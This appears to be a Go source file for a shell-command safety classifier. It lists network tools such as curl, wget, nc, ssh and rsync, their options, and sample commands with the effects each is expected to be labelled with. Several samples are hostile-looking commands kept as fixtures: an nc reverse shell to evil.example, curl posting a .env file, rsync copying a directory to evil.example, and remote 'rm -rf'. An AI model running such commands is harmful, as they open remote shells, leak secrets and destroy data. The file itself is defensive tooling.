package bashsafety

// netCommands are the programs that talk to other machines and to containers.
var netCommands = []Command{
	{
		Names:    []string{"aria2c", "axel", "lftp", "ftp", "tftp", "telnet", "rlogin", "http", "https", "xh"},
		Title:    "talks to another machine",
		Operands: URLs,
		Style:    0,
		more:     opaqueMore,
		Examples: []Example{{"ftp x", "net:x narrow"}},
	},
	{
		Names: []string{"curl"}, Full: true, Title: "transfers URLs",
		Flags: "-012346aBfGgIijklMNnpqRSsVvZ# http1.0 http1.1 http2 http2-prior-knowledge http3 http3-only http0.9 tlsv1 tlsv1.0 tlsv1.1 tlsv1.2 " +
			"tlsv1.3 sslv2 sslv3 ipv4 ipv6 append use-ascii basic digest ntlm negotiate anyauth compressed compressed-ssh create-dirs crlf " +
			"disable disable-eprt disable-epsv fail fail-early fail-with-body ftp-pasv get globoff head include insecure junk-session-cookies " +
			"keepalive no-keepalive list-only location location-trusted manual netrc netrc-optional no-buffer no-progress-meter path-as-is " +
			"parallel parallel-immediate post301 post302 post303 progress-bar proxy-insecure proxytunnel raw remote-time remove-on-error " +
			"retry-all-errors retry-connrefused sasl-ir show-error show-headers silent ssl ssl-reqd styled-output no-styled-output tcp-fastopen " +
			"tcp-nodelay tr-encoding trace-ids trace-time verbose version xattr skip-existing no-clobber next-protocol no-npn no-alpn " +
			"no-sessionid suppress-connect-headers haproxy-protocol mail-rcpt-allowfails metalink ca-native",
		Values: "-ACemPQrtuUwXyYz user-agent continue-at referer max-time ftp-port quote range telnet-option user proxy-user write-out request " +
			"speed-time speed-limit time-cond connect-timeout max-redirs max-filesize limit-rate rate retry retry-delay retry-max-time " +
			"interface local-port resolve dns-servers dns-interface ciphers tls13-ciphers tls-max tlsuser tlspassword cert-type key-type pass " +
			"proto proto-default proto-redir noproxy keepalive-time keepalive-cnt expect100-timeout happy-eyeballs-timeout-ms parallel-max " +
			"pinnedpubkey krb delegation login-options mail-from mail-rcpt mail-auth service-name sasl-authzid oauth2-bearer aws-sigv4 " +
			"url-query form-string curves socks5-gssapi-service create-file-mode ftp-account ftp-method ftp-alternative-to-user " +
			"ftp-ssl-ccc-mode hostpubmd5 hostpubsha256 ipfs-gateway tftp-blksize request-target variable",
		OptValues: "-h help",
		Opts: []Opt{
			{"-o output", HasArg, WritesValue},
			{"-O remote-name", NoArg, 0},
			{"remote-name-all", NoArg, 0},
			{"-J remote-header-name", NoArg, 0},
			{"output-dir", HasArg, 0},
			{"-L", NoArg, 0},
			{"-D dump-header -c cookie-jar trace trace-ascii stderr libcurl etag-save hsts alt-svc", HasArg, WritesValue},
			{"-K config -x proxy preproxy socks4 socks4a socks5 socks5-hostname unix-socket abstract-unix-socket connect-to engine doh-url proxy1.0", HasArg, Unsafe},
			{"-: next", NoArg, Unsafe},
			{"url", HasArg, Sends},
			{"-T upload-file", HasArg, ReadsValue},
			{"-E cert key cacert capath proxy-cert proxy-key proxy-cacert crlfile pubkey netrc-file etag-compare random-file egd-file", HasArg, ReadsValue},
			{"-d data data-ascii data-binary data-raw data-urlencode json", HasArg, 0},
			{"-b cookie", HasArg, 0},
			{"-F form", HasArg, 0},
			{"-H header", HasArg, 0},
			{"proxy-header", HasArg, 0},
		},
		Operands: URLs, more: curlMore,
		Examples: []Example{
			{"curl -s https://a/b", "net:https://a/b"},
			{"curl https://a/x -o /home/u/.bashrc", "narrow write:/home/u/.bashrc net:https://a/x"},
			{"curl -so /dev/null -w '%{http_code}' https://a", "net:https://a"},
			{"curl -O https://a/b/.envrc?x", "narrow write:.envrc net:https://a/b/.envrc?x"},
			{"curl -d @.env https://a", "read:.env net:https://a"},
			{"curl -F f=@.env https://a", "read:.env net:https://a"},
			{"curl --data-binary @- https://a", "net:https://a"},
			{"curl -K x", "read:x narrow"},
			{"curl --url https://a https://b", "net:https://a net:https://b"},
			{"curl https://{a,b}.c/", "narrow net:https://{a,b}.c/"},
			{"curl -fsSLo x https://a", "narrow write:x net:https://a"},
			{"curl -H 'A: b' -XPOST https://a", "net:https://a"},
			{`curl "$url"`, "narrow net:?"},
			{"curl -T f https://a", "read:f net:https://a"},
		},
	},
	{
		Names:    []string{"dig", "host", "nslookup", "drill", "getent", "ping", "ping6", "traceroute", "tracepath", "mtr", "whois"},
		Title:    "asks the network",
		Style:    NoOptions,
		more:     lookupMore,
		Examples: []Example{{"dig example.com", "net:example.com"}, {"ping -c 1 h", "net:h"}},
	},
	{
		Names:    []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"},
		Title:    "opens connections",
		Flags:    "-46bCdDFhklnNrStuUvz listen keep-open udp verbose ssl broker chat no-dns recv-only send-only",
		Values:   "-iIMmoOpPqsTVwWxX source source-port wait idle-timeout proxy max-conns delay output hex-dump proxy-type proxy-auth",
		Opts:     []Opt{{"-ec exec sh-exec lua-exec", HasArg, Executes}},
		Operands: Words,
		more:     hostMore,
		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "net:localhost"}},
	},
	{
		Names:  []string{"gpg", "gpg2"},
		Title:  "encrypts and signs",
		Flags:  "-abcdeknqstvz armor batch clearsign decrypt detach-sign encrypt list-keys list-secret-keys no-tty quiet sign symmetric verbose verify yes",
		Values: "-ru recipient local-user pinentry-mode cipher-algo",
		Opts: []Opt{
			{"-o output", HasArg, OutputsValue}, {"homedir options", HasArg, Unsafe},
			{"exec-path photo-viewer agent-program dirmngr-program gpgconf-path keyserver keyserver-options passphrase-file", HasArg, Unsafe},
		},
		Operands: Reads,
		Examples: []Example{{"gpg --output .envrc -d x", "write:.envrc read:x"}, {"gpg --verify a.sig a", "read:a.sig read:a"}, {"gpg --photo-viewer ./x a", "narrow read:a"}},
	},
	{
		Names:    []string{"nmap"},
		Title:    "scans networks",
		Flags:    "-vdnRAFO46h open traceroute reason",
		Values:   "-pTegDSM max-retries host-timeout min-rate max-rate exclude top-ports",
		Opts:     []Opt{{"script script-args script-args-file datadir servicedb", HasArg, Unsafe}, {"-o resume stylesheet", HasArg, Unsafe}, {"-i excludefile", HasArg, Unsafe}},
		Operands: URLs,
		Examples: []Example{{"nmap -p 80 h", "net:h"}, {"nmap --script ./x h", "narrow net:h"}, {"nmap -oN f h", "narrow net:f net:h"}},
	},
	{
		Names:    []string{"tcpdump", "tshark", "dumpcap"},
		Title:    "records network traffic",
		Flags:    "-nvXxAeqtSlLDpKNU#",
		Values:   "-icsCGWBjMTyEfYd",
		Opts:     []Opt{{"-z postrotate-command", HasArg, Executes}, {"-w", HasArg, WritesValue}, {"-rVF", HasArg, ReadsValue}, {"-Z relinquish-privileges", HasArg, Unsafe}},
		Examples: []Example{{"tcpdump -i any port 80", ""}, {"tcpdump -z ./x -w f", "narrow write:f tcpdump -z>>'./x'"}, {"tcpdump -r f", "read:f"}},
	},
	{
		Names: []string{"openssl"},
		Title: "does cryptography",
		Style: SingleDash,
		Flags: "nodes noout text base64 a d e x509 new batch aes-256-cbc sha256 hex pbkdf2 salt pubout modulus dates issuer subject fingerprint " +
			"showcerts verify_return_error brief quiet purpose",
		Values: "days subj newkey k pass passin passout connect servername md iter S K iv inform outform bits",
		Opts: []Opt{
			{"out keyout CAkeyout writerand sess_out keylogfile", HasArg, WritesValue},
			{"in key cert CAfile CAkey CA certfile inkey sigfile signature rand extfile", HasArg, ReadsValue},
			{"config engine provider provider-path", HasArg, Unsafe},
		},
		more: opensslMore,
		Examples: []Example{
			{"openssl x509 -in c.pem -noout -text", "read:c.pem"},
			{"openssl rand -hex 16", ""},
			{"openssl enc -out .envrc", "narrow write:.envrc"},
		},
	},
	{
		Names: []string{"rsync"}, Full: true, Title: "copies trees",
		Flags: "-acCDgGhHiIJkKlLnoOpPqrRsSuUvVWxXzANbdEFty0 archive verbose quiet checksum recursive relative update inplace append append-verify " +
			"dirs links copy-links copy-unsafe-links safe-links munge-links hard-links perms executability acls xattrs owner group devices " +
			"specials times atimes crtimes omit-dir-times super fake-super sparse preallocate dry-run whole-file one-file-system existing " +
			"ignore-existing remove-source-files delete delete-before delete-during delete-delay delete-after delete-excluded " +
			"ignore-missing-args delete-missing-args ignore-errors force partial delay-updates prune-empty-dirs numeric-ids ignore-times " +
			"size-only fuzzy compress cvs-exclude from0 protect-args secluded-args stats human-readable progress itemize-changes list-only ipv4 " +
			"ipv6 blocking-io no-motd no-implied-dirs open-noatime fsync version help backup old-args trust-sender mkpath no-relative no-perms " +
			"no-owner no-group no-times",
		Values: "-Bf@ suffix chmod chown usermap groupmap max-delete max-size min-size timeout contimeout modify-window exclude include filter " +
			"bwlimit block-size port sockopts outbuf iconv checksum-seed protocol compress-level compress-choice checksum-choice skip-compress " +
			"address info debug stop-after stop-at max-alloc stderr log-file-format out-format",
		Opts: []Opt{
			{"-e rsh rsync-path", HasArg, Executes}, {"daemon", NoArg, Unsafe}, {"-M remote-option config", HasArg, Unsafe},
			{"files-from exclude-from include-from password-file read-batch", HasArg, ReadsValue},
			{"log-file write-batch only-write-batch", HasArg, WritesValue},
			{"-T temp-dir partial-dir backup-dir compare-dest copy-dest link-dest", HasArg, 0}, {"early-input", HasArg, ReadsValue},
		}, more: rsyncMore,
		Examples: []Example{
			{"rsync -a src/ out", "read:src/** write:out/**"},
			{"rsync -e 'sh -c id' a h:b", "read:a/** net:h:b narrow rsync -e>>'sh -c id'"},
			{"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"},
			{"rsync -n a b", "ro read:a/**"},
			{"rsync -azv h:/x .", "net:h:/x write:./**"},
		},
	},
	{
		Names: []string{"scp", "sftp"}, Full: true,
		Title:  "copies files over ssh",
		Flags:  "-346ACafNOpqrRTv",
		Values: "-cilPXB",
		Opts:   []Opt{{"-SDs", HasArg, Executes}, {"-F", HasArg, Unsafe}, {"-o", HasArg, 0}, {"-b", HasArg, Unsafe}, {"-J", HasArg, 0}},
		more:   scpMore,
		Examples: []Example{
			{"scp -S ./x a h:b", "read:a/** net:h:b narrow scp -S>>'./x'"},
			{"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/**"},
			{"scp -o ProxyCommand=x a h:", "read:a/** net:h: narrow scp -o>>'x'"},
		},
	},
	{
		Names: []string{"socat"}, Title: "joins two channels", Style: NoOptions, more: opaqueMore,
		Examples: []Example{{"socat - TCP:h:80", "narrow"}},
	},
	{
		Names: []string{"ssh", "slogin", "autossh", "mosh"}, Full: true,
		Title:  "runs commands on another machine",
		Flags:  "-1246AaCfGgKkMNnqsTtVvXxYy",
		Values: "-BbcDeJLlmOpQRSWw",
		Opts:   []Opt{{"-F", HasArg, Unsafe}, {"-I", HasArg, Unsafe}, {"-i", HasArg, ReadsValue}, {"-E", HasArg, WritesValue}, {"-o", HasArg, 0}, {"ssh", HasArg, Executes}},
		Style:  StopAtOperand,
		more:   sshMore,
		Examples: []Example{
			{"ssh -o ProxyCommand='touch p' host", "net:host narrow ssh -o>>'touch p' ssh>>-"},
			{"ssh -oStrictHostKeyChecking=no -p 22 u@h rm -rf x", "net:u@h ssh>>'rm -rf x'"},
			{"ssh h", "net:h ssh>>-"}, {"ssh -N -L 1:x:1 h", "net:h"}, {"ssh h -- rm -rf x", "net:h ssh>>'rm -rf x'"},
			{"ssh -o PermitLocalCommand=yes -o 'LocalCommand id' h", "net:h narrow ssh -o>>'yes' ssh -o>>'id' ssh>>-"},
		},
	},
	{
		Names: []string{"sshpass"}, Title: "types a password into a command", Flags: "-evV", Values: "-pdP", Opts: []Opt{{"-f", HasArg, ReadsValue}},
		Style: StopAtOperand, more: launchMore, Examples: []Example{{"sshpass -p x ssh h ls", "sshpass>ssh h ls"}},
	},
	{
		Names: []string{"wget", "wget2"}, Full: true, Title: "downloads URLs",
		Flags: "-46bcdEFhHkKLmNnpqrSvVxKSv background continue debug adjust-extension no-check-certificate no-clobber force-directories " +
			"no-directories timestamping no-verbose quiet recursive span-hosts mirror page-requisites convert-links no-parent server-response " +
			"spider version help no-cache no-cookies no-proxy no-config content-disposition trust-server-names inet4-only inet6-only " +
			"show-progress no-hsts https-only auth-no-challenge content-on-error no-host-directories random-wait retry-connrefused delete-after " +
			"relative verbose protocol-directories ask-password no-netrc no-iri ignore-length no-if-modified-since",
		Values: "-ADIlQRtTUwX accept reject domains exclude-domains include-directories exclude-directories level quota tries timeout user-agent " +
			"wait header method body-data post-data user password http-user http-password referer max-redirect limit-rate dns-timeout " +
			"connect-timeout read-timeout cut-dirs default-page progress bind-address restrict-file-names secure-protocol local-encoding " +
			"remote-encoding accept-regex reject-regex waitretry backups report-speed ftp-user ftp-password follow-tags ignore-tags ciphers " +
			"regex-type prefer-family",
		Opts: []Opt{
			{"-O output-document", HasArg, 0},
			{"-oa output-file append-output save-cookies rejected-log warc-file hsts-file", HasArg, WritesValue},
			{"-P directory-prefix", HasArg, 0},
			{"-i input-file post-file body-file load-cookies ca-certificate certificate private-key ca-directory crl-file", HasArg, ReadsValue},
			{"-e execute", HasArg, Executes},
			{"use-askpass", HasArg, Executes},
			{"config", HasArg, Unsafe},
			{"-B base", HasArg, 0},
		},
		Operands: URLs, more: wgetMore,
		Examples: []Example{
			{"wget --use-askpass=./evil.sh https://u@e/", "net:https://u@e/ write:index.html narrow wget --use-askpass>>'./evil.sh'"},
			{"wget -qO- https://a/b", "net:https://a/b"},
			{"wget https://a/.bashrc", "write:.bashrc net:https://a/.bashrc"},
			{"wget -P d https://a/b.sh", "write:d/b.sh net:https://a/b.sh"},
			{"wget -O x https://a", "narrow write:x net:https://a"},
			{"wget -r https://a", "write:./** net:https://a"},
		},
	},
}
